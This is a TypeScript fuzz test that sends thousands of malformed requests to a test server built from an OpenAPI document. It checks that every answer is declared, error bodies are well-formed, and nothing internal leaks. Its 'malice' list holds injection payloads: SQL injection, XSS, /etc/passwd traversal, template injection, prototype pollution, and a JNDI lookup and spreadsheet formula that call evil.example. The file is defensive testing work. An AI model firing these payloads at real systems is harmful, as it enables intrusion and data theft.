/**
 * 20,000 bad requests, made from the OpenAPI document and a list of malice, with a seed: whatever comes in, the answer is one that
 * the document declares, a refusal is a problem, and nothing of our inside shows. The last test plants faults and must see them.
 */
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { openApiDocument } from "#doors/http/openapi";
import { problemSchema } from "#doors/http/problems";
import type { TestServer } from "./support/http-server.ts";
import { confidentRecord, openTestServer, sourceQuery, useCase } from "./support/http-server.ts";

const count = 20_000;

let server: TestServer;
before(async () => {
  server = await openTestServer();
});
after(() => server.close());

/** Mulberry32: 32 bits of state are enough to repeat a test. */
function random(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}

const chance = random(20_260_302);
const pick = <T>(from: readonly T[]): T => from[Math.floor(chance() * from.length)]!;

interface Schema {
  $ref?: string;
  type?: string | string[];
  enum?: unknown[];
  anyOf?: Schema[];
  format?: string;
  properties?: Record<string, Schema>;
  required?: string[];
  items?: Schema;
  maxProperties?: number;
}

interface Operation {
  parameters?: { name: string; in: string; schema: Schema }[];
  requestBody?: { content: Record<string, { schema: Schema }> };
  responses: Record<string, unknown>;
}

const document = openApiDocument() as unknown as {
  paths: Record<string, Record<string, Operation>>;
  components: { schemas: Record<string, Schema> };
};
const operations = Object.entries(document.paths).flatMap(([path, methods]) =>
  Object.entries(methods).map(([method, operation]) => ({ path, method: method.toUpperCase(), operation })),
);

const malice: readonly string[] = [
  "'; drop table decisions; --",
  '=HYPERLINK("http://evil.example","x")',
  "<script>alert(1)</script>",
  "a".repeat(5000) + "!",
  "(a+)+$".repeat(50),
  "\0",
  "\ud800",
  "../../../../etc/passwd",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "\u202e\u0000\ufeff",
  "constructor",
  "__proto__",
  "NaN",
  "-1",
  "1e309",
  "9223372036854775808",
  "2000-13-45T99:99:99Z",
  Buffer.from(`1|${"-".repeat(36)}`).toString("base64url"),
  Buffer.from(`2026-02-30|${"0".repeat(36)}`).toString("base64url"),
  "",
  " ",
  "null",
];

/** A value that fits the schema, more or less. */
function sample(schema: Schema, ids: readonly string[]): unknown {
  if (schema.$ref) return sample(document.components.schemas[schema.$ref.split("/").at(-1)!]!, ids);
  if (schema.enum) return pick(schema.enum);
  if (schema.anyOf) return sample(pick(schema.anyOf), ids);
  switch (Array.isArray(schema.type) ? pick(schema.type) : schema.type) {
    case "string":
      return schema.format === "uuid" ? pick(ids) : pick(["network", "accounts", "a reason", useCase]);
    case "integer":
    case "number":
      return Math.floor(chance() * 5);
    case "boolean":
      return chance() < 0.5;
    case "array":
      return [sample(schema.items ?? {}, ids), sample(schema.items ?? {}, ids)];
    case "object": {
      if (!schema.properties) return { ...confidentRecord };
      const entries = Object.entries(schema.properties).filter(
        ([name]) => (schema.required ?? []).includes(name) || chance() < 0.6,
      );
      return Object.fromEntries(entries.slice(0, schema.maxProperties).map(([name, one]) => [name, sample(one, ids)]));
    }
    default:
      return null;
  }
}

/** The value with something wrong in it, somewhere. */
function spoil(value: unknown): unknown {
  const bad = pick<() => unknown>([
    () => pick(malice),
    () => null,
    () => [],
    () => ({}),
    () => -1,
    () => 1e300,
    () => true,
    () => Object.fromEntries([[pick(malice), pick(malice)]]),
    () => Array.from({ length: 1200 }, () => ({})),
    () => nest(20),
  ]);
  if (typeof value !== "object" || value === null || chance() < 0.3) return bad();
  if (Array.isArray(value)) return value.map((one) => (chance() < 0.5 ? spoil(one) : one));
  const entries = Object.entries(value);
  const at = Math.floor(chance() * (entries.length + 1));
  if (at === entries.length) return { ...value, [pick(malice)]: bad() };
  if (chance() < 0.2) return Object.fromEntries(entries.toSpliced(at, 1));
  return Object.fromEntries(entries.with(at, [entries[at]![0], spoil(entries[at]![1])]));
}

function nest(depth: number): unknown {
  return depth === 0 ? 1 : [nest(depth - 1)];
}

/** Bytes that are almost the JSON that they were. */
function corrupt(json: string): Buffer {
  const at = Math.floor(chance() * json.length);
  return pick<() => Buffer>([
    () => Buffer.from(json.slice(0, at)),
    () => Buffer.concat([Buffer.from(json.slice(0, at)), Buffer.from([0xff, 0xfe, 0xc0, 0x80]), Buffer.from(json.slice(at))]),
    () => Buffer.from(json.replace(/:/, ':1e999,"x":')),
    () => Buffer.from(json.replace(/:/, ':NaN,"x":')),
    () => Buffer.from(json.replace("{", '{"__proto__":{"admin":true},')),
    () => Buffer.from(json.replace("{", '{"constructor":{"prototype":{"admin":true}},')),
    () => Buffer.from(json.replace("{", '{"record":{},"record":{"subject":"twice"},')),
    () => Buffer.from(`\ufeff${json}`),
    () => Buffer.from(json, "utf16le"),
    () => Buffer.from("[".repeat(chance() < 0.02 ? 100_000 : 500)),
    () => Buffer.from(`${"[".repeat(500)}${"]".repeat(500)}`),
    () => Buffer.from(json.replaceAll('"', "'")),
    () => Buffer.alloc(0),
    () => Buffer.alloc(chance() < 0.08 ? 1_200_000 : 2000, "x"),
  ])();
}

interface Made {
  readonly method: string;
  readonly url: string;
  readonly headers: Record<string, string>;
  readonly payload: Buffer | undefined;
  /** The statuses that the document declares for it; undefined: the address itself was spoilt. */
  readonly declared: ReadonlySet<string> | undefined;
}

const anyStatus = new Set([...operations.flatMap(({ operation }) => Object.keys(operation.responses)), "404", "405"]);

function make(ids: readonly string[]): Made {
  const { path, method, operation } = pick(operations);
  let sound = true;
  let url = path.replaceAll(/\{(\w+)\}/g, (_, name: string) => {
    const good = name === "name" ? useCase : name === "id" ? pick(ids) : name === "type" ? "key-scope" : "1";
    return encodeURIComponent(chance() < 0.15 ? pick(malice).toWellFormed() : good);
  });
  const query = (operation.parameters ?? []).filter((parameter) => parameter.in === "query" && chance() < 0.5);
  const search = new URLSearchParams(
    query.map(({ name, schema }): [string, string] => [name, chance() < 0.4 ? pick(malice) : String(sample(schema, ids))]),
  );
  if (chance() < 0.1) search.append(pick(malice), pick(malice));
  if (search.size > 0) url += `?${search.toString()}`;
  if (chance() < 0.05) {
    sound = false;
    url = pick([
      `${url}/`,
      `/${url}`,
      url.replace("v1", "v2"),
      `${url}%zz`,
      `${url}/../..`,
      url.toUpperCase(),
      "/%00",
      `/${"x".repeat(3000)}`,
    ]);
  }
  const headers: Record<string, string> = { authorization: `Bearer ${pick(Object.values(server.keys))}` };
  if (chance() < 0.2)
    headers["authorization"] = pick([
      "",
      "Bearer",
      "Bearer  ",
      "Basic YTpi",
      `Bearer ${"k".repeat(300)}`,
      "Bearer inlay_x",
      "bearer \u00fcmlaut",
    ]);
  if (chance() < 0.1) headers["idempotency-key"] = pick(["", "a b", "k".repeat(256), "ok-key", "\u00e9", "'; --"]);
  if (chance() < 0.1)
    headers["traceparent"] = pick(["", "00-x", "ff-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01", "x".repeat(500)]);
  if (chance() < 0.05) headers["x-http-method-override"] = "DELETE";
  if (chance() < 0.05) headers["accept"] = pick(["text/html", "*/*;q=0", "application/xml"]);
  let payload: Buffer | undefined;
  const bodySchema = operation.requestBody?.content["application/json"]?.schema;
  if (bodySchema || chance() < 0.05) {
    const good = sample(bodySchema ?? {}, ids);
    const json = JSON.stringify(chance() < 0.6 ? spoil(good) : good);
    payload = chance() < 0.3 ? corrupt(json) : Buffer.from(json);
    headers["content-type"] =
      chance() < 0.9
        ? "application/json"
        : pick([
            "text/plain",
            "application/x-www-form-urlencoded",
            "application/json; charset=utf-16",
            "multipart/form-data; boundary=x",
            "application/xml",
            "json",
            "",
          ]);
    if (chance() < 0.03) headers["content-encoding"] = pick(["gzip", "br", "identity", "x"]);
  }
  let verb = method;
  if (chance() < 0.05) {
    sound = false;
    verb = pick(["PUT", "DELETE", "PATCH", "OPTIONS", "HEAD", "GET", "POST"]);
  }
  return { method: verb, url, headers, payload, declared: sound ? new Set(Object.keys(operation.responses)) : undefined };
}

interface Answer {
  readonly status: number;
  readonly mediaType: string;
  readonly body: string;
}

/** What shows of our inside: stacks, source files, our SQL, keys. */
function leaks(body: string, secrets: readonly string[]): boolean {
  return (
    /\n\s+at |node:internal|node_modules|\.ts:\d|\.js:\d|#stages|#flows/.test(body) ||
    /\b(select|insert into|update|delete from)\b[^"]+\b(from|values|set|where)\b/i.test(body.replaceAll(sourceQuery, "")) ||
    secrets.some((secret) => body.includes(secret))
  );
}

/** What is wrong with an answer; undefined: nothing. */
function fault({ status, mediaType, body }: Answer, { method, declared }: Made, secrets: readonly string[]): string | undefined {
  if (status >= 500) return `answered ${status}`;
  if (!(declared ?? anyStatus).has(String(status))) return `answered ${status}, which is not declared`;
  if (leaks(body, secrets)) return "shows our inside";
  if (status < 400 || method === "HEAD") return undefined;
  if (!mediaType.startsWith("application/problem+json")) return `is ${mediaType}, not a problem`;
  const problem = problemSchema.safeParse(JSON.parse(body));
  if (!problem.success) return `is no problem as described: ${problem.error.message}`;
  return problem.data.status === status ? undefined : "names another status than it has";
}

test(`${count} bad requests get declared answers and nothing else`, async () => {
  const decide = await server.app.inject({
    method: "POST",
    url: `/v1/use-cases/${useCase}/decisions`,
    headers: { authorization: `Bearer ${server.keys.all}` },
    payload: { records: [confidentRecord, { subject: "?" }, { subject: "!" }] },
  });
  const ids = [
    ...decide.json<{ decisions: { id: string }[] }>().decisions.map(({ id }) => id),
    "01a207bf-274b-7143-bf90-78913d40cc36",
  ];
  const secrets = Object.values(server.keys);
  const statuses = new Map<number, number>();
  const faults: string[] = [];

  const one = async (): Promise<void> => {
    const made = make(ids);
    const answer = await server.app.inject({
      method: made.method as "GET",
      url: made.url,
      headers: made.headers,
      ...(made.payload && { payload: made.payload }),
    });
    statuses.set(answer.statusCode, (statuses.get(answer.statusCode) ?? 0) + 1);
    const wrong = fault(
      { status: answer.statusCode, mediaType: answer.headers["content-type"] ?? "", body: answer.body },
      made,
      secrets,
    );
    if (wrong !== undefined)
      faults.push(
        `${made.method} ${made.url.slice(0, 120)} ${wrong}: ${answer.body.slice(0, 300)}; sent ${made.payload?.toString().slice(0, 200) ?? ""}`,
      );
  };
  for (let done = 0; done < count; done += 20) await Promise.all(Array.from({ length: 20 }, one));

  assert.deepEqual(faults.slice(0, 5), [], `${faults.length} faults`);
  for (const status of [200, 400, 401, 403, 404, 405, 413, 415, 422])
    assert.ok((statuses.get(status) ?? 0) > 0, `some requests reach ${status}: ${JSON.stringify([...statuses])}`);
  assert.equal(({} as { admin?: boolean }).admin, undefined, "no prototype was reached");
});

test("the check sees planted faults", () => {
  const made: Made = { method: "GET", url: "/", headers: {}, payload: undefined, declared: new Set(["200", "400"]) };
  const problem = JSON.stringify({
    type: "/problems/x",
    title: "X",
    status: 400,
    detail: "x",
    instance: "/",
    code: "REQUEST_INVALID",
    fix: "x",
    trace_id: "x",
  });
  const mediaType = "application/problem+json";
  const planted: readonly (readonly [Answer, faulty: boolean])[] = [
    [{ status: 500, mediaType, body: problem }, true],
    [{ status: 418, mediaType, body: problem }, true],
    [{ status: 400, mediaType: "application/json", body: problem }, true],
    [{ status: 400, mediaType, body: "{}" }, true],
    [{ status: 400, mediaType, body: problem.replace("400", "404") }, true],
    [{ status: 200, mediaType: "application/json", body: "Error: x\n    at f (server.ts:1:2)" }, true],
    [{ status: 200, mediaType: "application/json", body: "select id from inlay.decisions where id = $1" }, true],
    [{ status: 200, mediaType: "application/json", body: "the key is sesame" }, true],
    [{ status: 400, mediaType, body: problem }, false],
    [{ status: 200, mediaType: "application/json", body: "{}" }, false],
  ];
  for (const [answer, faulty] of planted)
    assert.equal(fault(answer, made, ["sesame"]) !== undefined, faulty, JSON.stringify(answer));
});
